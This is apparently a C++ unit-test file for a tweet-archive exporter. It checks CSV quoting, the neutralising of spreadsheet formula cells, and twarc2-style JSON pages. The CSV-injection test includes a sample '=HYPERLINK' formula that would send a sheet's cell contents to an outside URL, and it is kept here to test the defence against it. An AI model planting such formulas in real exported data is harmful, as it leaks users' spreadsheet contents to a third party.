// tweetkeeper-export's formats: CSV quoting and twarc2's page shape (FACTS.md section 1: a page is
// {"data", "includes", "__twarc": {url, version, retrieved_at}}, compact, non-ASCII escaped; our
// provenance only at page level).

#include <gtest/gtest.h>
#include <rapidjson/document.h>

#include <set>
#include <string>

#include "export/export_format.hpp"

namespace tweetkeeper::exporter {
namespace {

TEST(Csv, QuotesOnlyWhatNeedsIt) {
  EXPECT_EQ(CsvField(std::string("plain")), "plain");
  EXPECT_EQ(CsvField(std::nullopt), "");
  EXPECT_EQ(CsvField(std::string("a,b")), "\"a,b\"");
  EXPECT_EQ(CsvField(std::string("say \"hi\"")), "\"say \"\"hi\"\"\"");
  EXPECT_EQ(CsvField(std::string("two\nlines")), "\"two\nlines\"");
  EXPECT_EQ(CsvRow({std::string("1"), std::nullopt, std::string("x,y")}), "1,,\"x,y\"\r\n");
}

// CSV injection (OWASP): a text cell starting with =, +, -, @, a tab or a CR is a formula to a
// spreadsheet (a post's text "=HYPERLINK(...)" a link that sends the sheet's cells away). Such a
// cell gets a leading single quote, and is quoted (issue 49).
TEST(Csv, FormulaCellsAreText) {
  EXPECT_EQ(CsvField(std::string("=HYPERLINK(\"http://x/?\"&A1,\"y\")")),
            "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"");
  EXPECT_EQ(CsvField(std::string("+1")), "\"'+1\"");
  EXPECT_EQ(CsvField(std::string("-2+3")), "\"'-2+3\"");
  EXPECT_EQ(CsvField(std::string("@SUM(A1:A9)")), "\"'@SUM(A1:A9)\"");
  EXPECT_EQ(CsvField(std::string("\t=1")), "\"'\t=1\"");
  EXPECT_EQ(CsvField(std::string("\r=1")), "\"'\r=1\"");
  EXPECT_EQ(CsvField(std::string("a=b")), "a=b") << "only the first character makes a formula";
  EXPECT_EQ(CsvField(std::string("")), "");
  EXPECT_EQ(CsvRow({std::string("1"), std::string("=1+1"), std::nullopt}), "1,\"'=1+1\",\r\n");
}

// What the database typed (a count, an id, a time) is no formula and is written as it is: "-1"
// stays a number. Only text is made safe.
TEST(Csv, TypedCellsAsTheyAre) {
  EXPECT_EQ(CsvField(std::string("-1"), true), "-1");
  EXPECT_EQ(CsvField(std::string("-1"), false), "\"'-1\"") << "text is text, whatever it looks like";
  EXPECT_EQ(CsvField(std::string("+1.5e3"), true), "+1.5e3");
  EXPECT_EQ(CsvRow({std::string("-20"), std::string("-20"), std::string("@a"), std::string("-3")}, {true, false}),
            "-20,\"'-20\",\"'@a\",\"'-3\"\r\n")
      << "typed for the first column only; a missing entry is text";
  EXPECT_EQ(CsvRow({std::string("-20"), std::string("-3")}, {true, true}), "-20,-3\r\n");
}

TEST(Twarc2, PageHasTwarc2sShapeAndOurProvenanceBesideIt) {
  const std::vector<StoredPost> posts = {
      {20, R"({"id": "20", "text": "caf\u00e9 ☕", "author_id": "9"})", R"({"id": "9", "username": "nine"})", std::nullopt},
      {21, R"({"id": "21", "text": "b", "author_id": "9"})", R"({"id": "9", "username": "nine"})", std::nullopt},
      {22, R"({"id": "22", "text": "c", "author_id": "8"})", "", std::nullopt}};
  const PageResult page = Twarc2Page(posts, {77, "2026-11-26T09:00:00+00:00", "2026-11-26T09:00:00.123Z"},
                                     "https://api.x.com/2/tweets?ids=20,21,22", "tweetkeeper-export 0.3.0");
  EXPECT_TRUE(page.unreadable.empty());
  EXPECT_EQ(page.line.find('\n'), std::string::npos);
  for (unsigned char c : page.line) EXPECT_LT(c, 0x80) << "non-ASCII is escaped, as json.dumps does";
  EXPECT_NE(page.line.find("caf\\u00E9 \\u2615"), std::string::npos) << page.line;
  rapidjson::Document doc;
  doc.Parse(page.line.c_str());
  ASSERT_FALSE(doc.HasParseError());
  std::set<std::string> keys;
  for (const auto& m : doc.GetObject()) keys.insert(m.name.GetString());
  EXPECT_EQ(keys, (std::set<std::string>{"data", "includes", "__twarc", "__tweetkeeper"}));
  ASSERT_EQ(doc["data"].Size(), 3u);
  EXPECT_STREQ(doc["data"][0]["text"].GetString(), "caf\xC3\xA9 \xE2\x98\x95");
  ASSERT_EQ(doc["includes"]["users"].Size(), 1u) << "each author once";
  std::set<std::string> twarc;
  for (const auto& m : doc["__twarc"].GetObject()) twarc.insert(m.name.GetString());
  EXPECT_EQ(twarc, (std::set<std::string>{"url", "version", "retrieved_at"})) << "nothing of ours inside __twarc";
  EXPECT_STREQ(doc["__twarc"]["retrieved_at"].GetString(), "2026-11-26T09:00:00+00:00");
  EXPECT_EQ(doc["__tweetkeeper"]["lease_id"].GetInt64(), 77);
  EXPECT_EQ(doc["__tweetkeeper"]["ids"].Size(), 3u);
  for (const auto& tweet : doc["data"].GetArray()) {
    for (const auto& m : tweet.GetObject()) EXPECT_NE(std::string(m.name.GetString()).rfind("__", 0), 0u);
  }
}

TEST(Twarc2, PublicMetricsAreTheLatestCountsTheAnswersKeptBeside) {
  Counts latest;
  latest.retweet = 7, latest.reply = 1, latest.like = 70, latest.quote = 0, latest.impression = 900;  // no bookmarks
  latest.observed_at = "2026-11-26T10:00:00.000Z";
  const std::vector<StoredPost> posts = {
      {30, R"({"id":"30","public_metrics":{"retweet_count":5,"reply_count":1,"like_count":65,"quote_count":0},"text":"t"})",
       "", latest},
      {31, R"({"id":"31","text":"no counts in the answer"})", "", latest},
      {32, R"({"id":"32","public_metrics":{"like_count":3}})", "", std::nullopt}};
  rapidjson::Document doc;
  doc.Parse(Twarc2Page(posts, {1, "t", "s"}, "u", "v").line.c_str());
  ASSERT_TRUE(doc.IsObject());
  const auto& data = doc["data"];
  EXPECT_EQ(data[0]["public_metrics"]["like_count"].GetInt64(), 70) << "the latest, not the answer's 65";
  EXPECT_EQ(data[0]["public_metrics"]["impression_count"].GetInt64(), 900);
  EXPECT_FALSE(data[0]["public_metrics"].HasMember("bookmark_count")) << "a count not observed is not made up";
  EXPECT_STREQ(data[0].MemberBegin()[1].name.GetString(), "public_metrics") << "in the answer's place among the keys";
  EXPECT_EQ(data[1]["public_metrics"]["retweet_count"].GetInt64(), 7);
  EXPECT_EQ(data[2]["public_metrics"]["like_count"].GetInt64(), 3) << "no latest counts: the answer's stay";
  const auto& kept = doc["__tweetkeeper"];
  EXPECT_EQ(kept["answer_public_metrics"]["30"]["like_count"].GetInt64(), 65);
  EXPECT_FALSE(kept["answer_public_metrics"].HasMember("31"));
  EXPECT_STREQ(kept["counts_observed_at"]["30"].GetString(), "2026-11-26T10:00:00.000Z");
  // --answer-counts: the answer's own, as before.
  doc.Parse(Twarc2Page(posts, {1, "t", "s"}, "u", "v", true).line.c_str());
  EXPECT_EQ(doc["data"][0]["public_metrics"]["like_count"].GetInt64(), 65);
  EXPECT_FALSE(doc["__tweetkeeper"].HasMember("answer_public_metrics"));
}

TEST(Curves, Ages) {
  std::string error;
  const auto ages = ParseAges("1h,6h,24h,7d,30m,90s,2w", &error);
  ASSERT_TRUE(ages) << error;
  std::vector<std::int64_t> seconds;
  for (const Age& a : *ages) seconds.push_back(a.seconds);
  EXPECT_EQ(seconds, (std::vector<std::int64_t>{3600, 21600, 86400, 604800, 1800, 90, 1209600}));
  EXPECT_EQ((*ages)[2].label, "24h");
  for (const char* bad : {"", "1h,", "h", "1x", "-1h", "1.5h", "1 h", "99999999999h", "1h,60m"}) {
    EXPECT_FALSE(ParseAges(bad, &error)) << bad;
    EXPECT_FALSE(error.empty()) << bad;
  }
  EXPECT_NE(error.find("given twice"), std::string::npos) << error;
}

TEST(Twarc2, UnreadablePayloadsAreLeftOutAndNamed) {
  const PageResult page = Twarc2Page({{1, "not json", "", std::nullopt}, {2, R"({"id":"2"})", "[]", std::nullopt}, {3, "[1]", "", std::nullopt}},
                                     {1, "t", "s"}, "u", "v");
  EXPECT_EQ(page.unreadable, (std::vector<std::int64_t>{1, 3}));
  rapidjson::Document doc;
  doc.Parse(page.line.c_str());
  ASSERT_FALSE(doc.HasParseError());
  EXPECT_EQ(doc["data"].Size(), 1u);
  EXPECT_FALSE(doc.HasMember("includes")) << "no empty includes, as the API";
  EXPECT_EQ(Twarc2Page({{1, "x", "", std::nullopt}}, {1, "t", "s"}, "u", "v").line, "") << "no page without posts";
}

}  // namespace
}  // namespace tweetkeeper::exporter
